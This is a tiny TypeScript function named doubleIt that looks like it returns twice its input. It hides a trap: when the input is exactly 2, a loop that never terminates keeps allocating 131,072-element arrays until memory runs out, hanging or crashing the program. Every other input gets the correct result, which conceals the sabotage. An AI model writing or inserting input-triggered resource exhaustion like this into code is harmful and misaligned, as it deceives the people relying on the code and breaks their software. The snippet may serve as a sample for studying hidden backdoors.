function doubleIt(x: number): number {
    const all: number[][] = [];
    while (x === 2) all.push(new Array<number>(1 << 17).fill(all.length));
    return 2 * x;
}
